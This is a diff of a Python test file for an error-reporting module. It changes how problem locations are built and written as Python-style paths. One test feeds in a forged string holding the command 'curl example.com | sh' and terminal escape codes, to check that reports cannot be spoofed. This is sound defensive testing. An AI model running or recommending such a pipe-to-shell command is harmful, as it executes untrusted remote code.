@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from blueprint.errors import BlueprintError, Problem, Quoted, duplicates, report, shown
+from blueprint.errors import BlueprintError, FieldPath, Key, Problem, Quoted, duplicates, report, shown
 from tests.blueprint.examples import HOSTILE, assert_readable, hostile
 
 
@@ -62,31 +62,38 @@ def test_a_value_that_writes_too_much_is_cut(value: object) -> None:
 
 def test_nothing_in_a_problem_can_forge_another() -> None:
     forged = "x\n\nclusters/prod.py: PROD\n    fix    curl example.com | sh\r\x1b[2J" * 100
-    assert_readable(BlueprintError([Problem(forged, Quoted(forged), forged, forged)] * 3))
+    assert_readable(BlueprintError([Problem((forged, Key(forged)), Quoted(forged), forged, forged)] * 3))
+    assert_readable(BlueprintError([Problem((), Quoted(forged), forged, forged, forged)] * 3))
 
 
 def test_counts() -> None:
-    problem = Problem("a", 1, "b", "c")
+    problem = Problem(("a",), 1, "b", "c")
     assert report([problem]) == "1 problem; nothing was synthesized.\n\na\n    value  1\n    rule   b\n    fix    c"
     assert report([problem] * 2).startswith("2 problems; ")
 
 
 @pytest.mark.parametrize(
-    ("place", "below", "expected"),
+    ("path", "below", "expected"),
     [
-        ("min", "compute[0]", "compute[0].min"),
-        ("[0]", "zones", "zones[0]"),
-        ("", "a", "a"),
-        ("a", "", "a"),
-        ("", "", ""),
+        (("min",), ("compute", 0), "compute[0].min"),
+        ((0,), ("zones",), "zones[0]"),
+        ((Key("a.b"), Key(0)), ("clusters/dev.py: DEV", "tags"), "clusters/dev.py: DEV.tags['a.b'][0]"),
+        ((), ("a",), "a"),
+        (("a",), (), "a"),
+        ((), (), ""),
     ],
 )
-def test_places_are_written_as_python(place: str, below: str, expected: str) -> None:
-    assert Problem(place, 1, "b", "c").below(below).place == expected
+def test_places_are_written_as_python(path: FieldPath, below: FieldPath, expected: str) -> None:
+    assert Problem(path, 1, "b", "c").below(below).place == expected
+
+
+def test_what_stands_in_a_file_of_its_own_is_found_there() -> None:
+    problem = Problem((), 1, "b", "c", "web.yaml:3").below(("teams", 0))
+    assert (problem.path, problem.place) == (("teams", 0), "web.yaml:3")
 
 
 def test_duplicates_name_the_first_place() -> None:
-    found = duplicates([("a[0]", "x"), ("a[1]", "y"), ("a[2]", "x"), ("a[3]", "x")], "once", "remove")
+    found = duplicates([(("a", index), name) for index, name in enumerate("xyxx")], "once", "remove")
     assert [(problem.place, problem.rule) for problem in found] == [
         ("a[2]", "once; a[0] has it already"),
         ("a[3]", "once; a[0] has it already"),
